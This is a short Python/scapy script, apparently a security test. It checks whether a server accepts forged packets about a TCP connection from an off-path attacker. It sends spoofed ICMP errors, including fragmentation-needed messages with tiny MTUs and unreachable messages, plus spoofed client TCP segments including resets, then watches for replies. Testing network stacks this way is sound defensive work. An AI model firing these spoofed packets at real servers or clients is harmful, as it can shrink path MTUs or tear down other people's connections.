#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
#
# What an attacker who sees no packets of a connection can forge about it:
#
#	mtu.py icmp IFACE MAC SERVER CLIENT PORT    ICMP errors about its segments
#	mtu.py link IFACE MAC SERVER CLIENT PORT    its client's segments, from another MAC
#
# IFACE leads to the server, whose (or its router's) address there is MAC. For the second, nothing
# may come back to that other MAC.

import random
import sys
import time

from scapy.all import ICMP, IP, TCP, AsyncSniffer, Ether, Raw, conf

ATTACKER = "02:00:00:00:00:66"
SERVER_PORT = 443
ROUNDS, TIMES = 20, 5


def number():
    return random.getrandbits(32)


def quote(server, client, port):
    return IP(src=server, dst=client, flags="DF", len=1500) / TCP(
        sport=SERVER_PORT, dport=port, seq=number(), flags="A")


def errors(server, client, port):
    for _ in range(ROUNDS):
        for kind, code, mtu in ((3, 4, 68), (3, 4, 1300), (3, 3, 0), (3, 1, 0), (11, 0, 0)):
            yield IP(src=client, dst=server) / ICMP(type=kind, code=code, nexthopmtu=mtu) / Raw(
                bytes(quote(server, client, port))[:28])


def segments(server, client, port):
    for _ in range(ROUNDS):
        for flags in ("A", "PA", "RA", "S", "FA"):
            yield IP(src=client, dst=server) / TCP(
                sport=port, dport=SERVER_PORT, seq=number(), ack=number(), flags=flags,
                options=[("NOP", None), ("NOP", None), ("Timestamp", (number(), number()))])


def main():
    what, iface, mac, server, client, port = sys.argv[1:]
    source = ATTACKER if what == "link" else None
    make = segments if what == "link" else errors
    frames = [bytes(Ether(src=source, dst=mac) / packet)
              for packet in make(server, client, int(port))]
    sniffer = AsyncSniffer(iface=iface, filter="ether dst " + ATTACKER, promisc=True)
    sniffer.start()
    time.sleep(0.2)
    socket = conf.L2socket(iface=iface)
    for frame in frames * TIMES:
        socket.send(Raw(frame))
        time.sleep(0.001)
    time.sleep(0.5)
    got = [packet for packet in sniffer.stop() if packet[Ether].src == mac]
    for packet in got[:5]:
        print(packet.summary())
    sys.exit(len(got) > 0)


main()
